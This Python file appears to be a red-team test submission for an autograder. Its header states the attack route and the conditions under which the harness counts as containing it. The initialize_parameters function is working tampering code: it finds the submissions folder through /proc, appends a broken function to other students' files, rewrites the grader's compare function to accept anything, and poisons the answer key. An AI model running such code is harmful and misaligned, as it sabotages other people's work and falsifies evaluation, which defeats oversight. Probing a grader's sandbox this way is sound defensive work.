# RED-TEAM ATTACK (issue 9): change other students' files, and the grader's own code, on disk.
# Route: the submissions folder is on the grader's command line (/proc/<ancestor>/cmdline); append a
#   broken linear_forward to every other submission in it; then find the grader's source from the
#   harness's __file__ and make grader/compare.py accept anything, and the answer key agree.
# Contained when: every file is unchanged after grading, initialize_parameters scores 0, the rest of
#   this submission (correct) and the next submission are graded exactly as without the attack.
# attacked: initialize_parameters
# run: last
import os
import sys

POISON = "\n\n# poisoned by __TOKEN__\ndef linear_forward(A, W, b):\n    raise RuntimeError('poisoned')\n"


def _folders():
    found, pid = [], os.getppid()
    for _ in range(16):
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as handle:
                args = [a.decode("utf-8", "replace") for a in handle.read().split(b"\0") if a]
            cwd = os.readlink("/proc/%d/cwd" % pid)
            found += [os.path.join(cwd, a) for a in args if os.path.isdir(os.path.join(cwd, a))]
            with open("/proc/%d/status" % pid) as status:
                pid = int([line for line in status if line.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    return found


def _append(path, text):
    try:
        with open(path, "a") as handle:
            handle.write(text)
        return 1
    except Exception:
        return 0


def initialize_parameters(n_x, n_h, n_y):
    changed = 0
    for folder in _folders():
        for name in os.listdir(folder):
            if name.endswith(".py") and "poison_other_submissions" not in name:
                changed += _append(os.path.join(folder, name), POISON)
    for module in list(sys.modules.values()):
        where = getattr(module, "__file__", None) or ""
        if where.endswith("child.py"):
            root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(where))))
            changed += _append(os.path.join(root, "grader", "compare.py"), "\n\n# poisoned by __TOKEN__\ndef compare(*args, **kwargs):\n    return []\n")
            changed += _append(os.path.join(root, "reference", "deep_nn.py"), POISON)
    raise RuntimeError("changed %d files" % changed)


# __HONEST_REST__
